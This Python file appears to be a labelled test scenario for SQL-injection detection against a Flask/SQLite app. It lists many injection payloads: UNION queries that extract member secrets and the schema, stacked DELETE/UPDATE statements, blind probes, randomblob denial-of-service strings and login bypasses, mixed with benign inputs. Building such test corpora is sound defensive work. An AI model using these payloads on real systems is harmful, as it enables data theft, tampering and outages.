# SPDX-License-Identifier: GPL-2.0-or-later
"""SQL injection into SQLite behind Flask: strings, numbers in paths, JSON with double quotes, UPDATE, a login."""
from lib.steps import form, get, q, sends, values

FAMILLE = ["Pinaceae' AND '1'='1", "Pinaceae' AND '1'='2", "x' UNION SELECT pseudo,secret,role FROM membres--", "x' UNION SELECT sql,name,1 FROM sqlite_master--", "x' UNION SELECT sqlite_version(),2,3--",
           "Pinaceae'", "' OR 1=1--", "x' UNION SELECT 1,2--", "x' UNION ALL SELECT hex(randomblob(3)),quote('a'),upper('edelweiss')||71*83,4--", "x' UNION SELECT char(97,108,112,101,115)||(4096*3),2,3 /*",
           "x' AND 1=randomblob(250000000) AND '1'='1", "x' AND abs(-9223372036854775808)--", "x' AND json('{')--", "x'; DELETE FROM releves WHERE id=99--", "x' UNION SELECT group_concat(tbl_name),load_extension('x'),1 FROM sqlite_master--",
           "x' UNION SELECT printf('%s-%d','lis',1200*7),2,3--", "l'Isère", "x' AND (SELECT COUNT(*) FROM membres)=3 AND 'a'='a"]
NUMERO = ['1 OR 1=1', '1 AND 1=1', '1 AND 1=2', '0 UNION SELECT pseudo,secret FROM membres', "0 UNION SELECT name,sql FROM sqlite_master WHERE type='table'", '1-0', "1'", '2-1', '0 UNION SELECT 1',
          '1 AND unicode(substr((SELECT secret FROM membres LIMIT 1),1,1))>90', '1 AND unicode(substr((SELECT secret FROM membres LIMIT 1),1,1))>110', '0 UNION SELECT 913*7,total_changes()',
          '1 AND 1=LIKE(\'ABCDEFG\',UPPER(HEX(RANDOMBLOB(150000000/2))))', '0 UNION SELECT replace(hex(zeroblob(2)),"00","vert"),9']
MEMBRE = ['marthe" AND "1"="1', 'marthe" AND "1"="2', '" OR 1=1--', '" OR 1=2--', 'marthe" AND substr(sqlite_version(),1,1)="3', 'marthe" AND substr(sqlite_version(),1,1)="4', 'x" OR (SELECT length(secret) FROM membres LIMIT 1)=10--',
          'x" OR (SELECT length(secret) FROM membres LIMIT 1)=4--', 'x"', "O'Brien"]
SCENARIO = [([('203.0.113.51', 8000), ('203.0.113.52', 8000), ('203.0.113.53', 8000)], [
    get('/plantes?famille=Pinaceae'), get('/plantes?famille=Rosaceae'), get('/releve/1'), get('/releve/2'), sends('/api/membre', {'pseudo': 'marthe'}), sends('/api/membre', {'pseudo': 'nul'}),
    *values('/plantes', 'famille', 'sqli', *FAMILLE), *[get('/releve/' + q(n), 'sqli') for n in NUMERO], *[sends('/api/membre', {'pseudo': m}, 'sqli') for m in MEMBRE],
    *[form('/notes', {'note': n}, 'sqli') for n in ("x' WHERE id=99; UPDATE releves SET auteur='moi' WHERE id=99--", "x'||(SELECT hex(randomblob(200000000)))||'", "x'", "l'alpage", "x', auteur=(SELECT secret FROM membres LIMIT 1)--")],
    *[form('/session', {'pseudo': p, 'secret': s}, 'login') for p, s in (("marthe'--", 'x'), ("' OR '1'='1'--", 'x'), ("' OR '1'='2'--", 'x'), ('direction', "' OR 'a'='a"), ("x' UNION SELECT 'direction'--", 'y'), ("marthe' AND 1=1", 'x'))],
    form('/session', {'pseudo': 'marthe', 'secret': 'non'}), form('/session', {'pseudo': 'yannick', 'secret': 'P4pillon-bleu'})])]
